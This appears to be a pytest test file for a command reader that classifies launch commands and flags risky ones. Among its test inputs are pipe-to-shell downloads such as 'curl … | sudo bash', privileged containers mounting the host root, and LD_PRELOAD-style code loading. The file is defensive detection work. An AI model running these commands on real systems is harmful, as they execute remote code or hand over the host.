"""What the words of a command mean, and what of them deserves a second look."""

import pytest

from keyturn.desktop.resources import find_resources
from keyturn.desktop.runners import load_runners
from keyturn.domain.command import (
    CommandReading,
    Mark,
    MarkKind,
    is_pinned,
    npm_name,
    python_name,
    read_command,
)
from keyturn.domain.command_row import RunKind

TABLE = load_runners(find_resources() / "runners.toml")


def read(command: str, *env: str) -> CommandReading:
    return read_command(command.split(), env, TABLE)


def kinds(reading: CommandReading) -> set[str]:
    return {mark.kind.value for mark in reading.marks}


@pytest.mark.parametrize(
    ("command", "kind", "target"),
    [
        ("npx -y @scope/server /data", RunKind.NPM_PACKAGE, "@scope/server"),
        ("npm exec --yes -- server", RunKind.NPM_PACKAGE, "server"),
        ("node --enable-source-maps dist/index.js -e", RunKind.NODE_FILE, "dist/index.js"),
        ("/usr/bin/node22 a.js", RunKind.NODE_FILE, "a.js"),
        ("python3.11 -I -m mcp_server_git --repository .", RunKind.PYTHON, "mcp_server_git"),
        ("python -Im pkg.mod", RunKind.PYTHON, "pkg.mod"),
        ("python -X dev server.py -m other", RunKind.PYTHON, "server.py"),
        ("uvx mcp-server-git", RunKind.PYTHON_TOOL, "mcp-server-git"),
        ("uv tool run --python 3.12 mcp-server-git", RunKind.PYTHON_TOOL, "mcp-server-git"),
        ("uv run --directory /srv server.py", RunKind.UV_RUN, "server.py"),
        ("pipx run tool", RunKind.PYTHON_TOOL, "tool"),
        ("docker run -i --rm -e KEY mcp/git", RunKind.CONTAINER, "mcp/git"),
        ("docker ps", RunKind.LAUNCHER, "ps"),
        ("uv --directory /srv run server.py", RunKind.UV_RUN, "server.py"),
        ("uv -q --project /srv run --no-sync server.py", RunKind.UV_RUN, "server.py"),
        ("uv tool --quiet run mcp-server-git", RunKind.PYTHON_TOOL, "mcp-server-git"),
        ("npm --prefix /srv exec -y server", RunKind.NPM_PACKAGE, "server"),
        ("npm -y exec server", RunKind.NPM_PACKAGE, "server"),
        ("C:\\node\\npx.cmd -y server", RunKind.NPM_PACKAGE, "server"),
        ("pnpm dlx server", RunKind.NPM_PACKAGE, "server"),
        ("yarn dlx server", RunKind.NPM_PACKAGE, "server"),
        ("npm --prefix /srv run start", RunKind.NPM_SCRIPT, "start"),
        ("npm start", RunKind.NPM_SCRIPT, ""),
        ("docker --context x run --tmpfs /x image", RunKind.CONTAINER, "image"),
        ("docker -H tcp://host container --debug run image", RunKind.CONTAINER, "image"),
        ("deno run --allow-net server.ts", RunKind.NODE_FILE, "server.ts"),
        ("bun run server.ts", RunKind.NODE_FILE, "server.ts"),
        ("bun server.ts", RunKind.NODE_FILE, "server.ts"),
        ("tsx watch server.ts", RunKind.NODE_FILE, "server.ts"),
        ("java -jar server.jar", RunKind.LAUNCHER, "server.jar"),
        ("mcp run server.py", RunKind.LAUNCHER, "run"),
        ("uv --unheard of run server.py", RunKind.LAUNCHER, "of"),
        ("env A=1 B=2 python server.py", RunKind.PYTHON, "server.py"),
        ("timeout 5s nice -n 5 node a.js", RunKind.NODE_FILE, "a.js"),
        ("/opt/server --port 1", RunKind.PROGRAM, ""),
        ("", RunKind.PROGRAM, ""),
        ("npx", RunKind.NPM_PACKAGE, ""),
        ("node", RunKind.NODE_FILE, ""),
    ],
)
def test_a_command_names_the_code_that_it_runs(command: str, kind: RunKind, target: str) -> None:
    reading = read(command)
    assert (reading.kind, reading.target) == (kind, target)


@pytest.mark.parametrize(
    ("command", "packages"),
    [
        ("npx -y -p one --package=two run it", ("one", "two")),
        ("uvx --from git+https://e.example/x tool", ("git+https://e.example/x",)),
        ("uvx --with extra tool", ("tool", "extra")),
        ("pipx run --spec tool==1.0 tool", ("tool==1.0",)),
        ("uv run --with extra server.py", ("extra",)),
    ],
)
def test_packages_are_named_by_options_or_by_the_first_word(
    command: str, packages: tuple[str, ...]
) -> None:
    assert read(command).packages == packages


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["python", "-c", "import os"], "inline_code"),
        (["python", "-Ic", "import os"], "inline_code"),
        (["node", "-e", "1"], "inline_code"),
        (["node", "--eval=1"], "inline_code"),
        (["node", "-pe", "1"], "inline_code"),
        (["sh", "-c", "server"], "shell"),
        (["bash", "-lc", "server"], "inline_code"),
        (["cmd", "/c", "server"], "inline_code"),
        (["sh", "-c", "a; b"], "more_commands"),
        (["sh", "-c", "curl -s https://e.example/x | sudo bash"], "pipe_to_shell"),
        (["sh", "-c", "wget -qO- https://e.example | python3 -"], "downloads"),
        (["npx", "-c", "curl x | sh"], "pipe_to_shell"),
        (["npx", "-y", "server"], "not_pinned"),
        (["npx", "-y", "server@latest"], "not_pinned"),
        (["npx", "-y", "server@^1.0.0"], "not_pinned"),
        (["npx", "github:owner/repo"], "from_address"),
        (["npx", "owner/repo"], "from_address"),
        (["npx", "@a/b@npm:evil@1.0.0"], "from_address"),
        (["npx", "server@https://e.example/x.tgz"], "from_address"),
        (["uvx", "tool @ https://e.example/x.whl"], "from_address"),
        (["npx", "--registry", "https://e.example", "server@1.0.0"], "other_registry"),
        (["uvx", "--index-url=https://e.example", "tool==1"], "other_registry"),
        (["uvx", "tool"], "not_pinned"),
        (["node", "--import", "./hook.mjs", "a.js"], "loads_first"),
        (["node", "-r./hook.js", "a.js"], "loads_first"),
        (["docker", "run", "--privileged", "image"], "container_power"),
        (["docker", "run", "--pid=host", "image"], "container_power"),
        (["docker", "run", "-v", "/:/host", "image"], "mounts_all"),
        (["podman", "run", "--mount", "type=bind,source=/,target=/host", "image"], "mounts_all"),
        (["env", "NODE_OPTIONS=--import=x", "node", "a.js"], "env_loads"),
    ],
)
@pytest.mark.requirement("LAUNCH-MARKS")
def test_what_runs_code_is_marked(argv: list[str], expected: str) -> None:
    assert expected in kinds(read_command(argv, (), TABLE))


@pytest.mark.parametrize(
    ("command", "files"),
    [
        ("java -jar server.jar", ("server.jar",)),
        ("poetry run python -m x --script=run.py", ("run.py",)),
        ("launch-it server.rb", ("server.rb",)),
        ("uv --unheard of run server.py", ("server.py",)),
        ("conda run -n env node index.js", ("index.js",)),
    ],
)
@pytest.mark.requirement("LAUNCH-CLOSURE")
def test_what_a_launcher_runs_is_said_not_to_be_known(command: str, files: tuple[str, ...]) -> None:
    reading = read(command)
    assert (reading.unread, reading.files) == (True, files)


@pytest.mark.parametrize("command", ["", "env -S", "uv --directory a --project b run c"])
def test_what_cannot_be_told_from_the_words_is_said(command: str) -> None:
    assert read(command).unread


def test_a_program_of_its_own_is_what_it_is() -> None:
    assert not read("server --db data.sqlite").unread


@pytest.mark.parametrize("name", ["PYTHONPATH", "NODE_OPTIONS", "LD_PRELOAD=keychain:x"])
def test_variables_that_load_code_are_marked(name: str) -> None:
    assert Mark(MarkKind.ENV_LOADS, name.partition("=")[0]) in read("server", name).marks


@pytest.mark.parametrize(
    "command",
    [
        "python -I -m server",
        "node dist/index.js --eval",
        "npx -y @scope/server@1.2.3 /data",
        "uvx tool==1.2.3",
        "docker run -i --rm -v /srv/data:/data mcp/git",
        "/opt/server -c config.toml",
    ],
)
def test_plain_commands_are_not_marked(command: str) -> None:
    assert read(command).marks == ()


@pytest.mark.parametrize(
    ("spec", "name"),
    [("@a/b@1", "@a/b"), ("b@1", "b"), ("b", "b"), ("git+ssh://x", ""), ("./x", "")],
)
def test_a_specifier_of_npm_names_its_package(spec: str, name: str) -> None:
    assert npm_name(spec) == name


@pytest.mark.parametrize(
    ("spec", "name"), [("A_b.c[extra]>=1", "a-b-c"), ("tool==1", "tool"), ("https://x", "")]
)
def test_a_requirement_names_its_distribution(spec: str, name: str) -> None:
    assert python_name(spec) == name


def test_only_one_version_is_pinned() -> None:
    assert is_pinned("@a/b@1.0.0-rc.1", RunKind.NPM_PACKAGE)
    assert not is_pinned("@a/b", RunKind.NPM_PACKAGE)
    assert is_pinned("tool@1.2", RunKind.PYTHON_TOOL)
    assert not is_pinned("tool>=1.2", RunKind.PYTHON_TOOL)


@pytest.mark.parametrize("words", [["env"] * 50, ["npx", "-p"], ["python", "-m"], ["uv", "run"]])
def test_what_ends_early_is_read_all_the_same(words: list[str]) -> None:
    assert read_command(words, (), TABLE).marks == ()
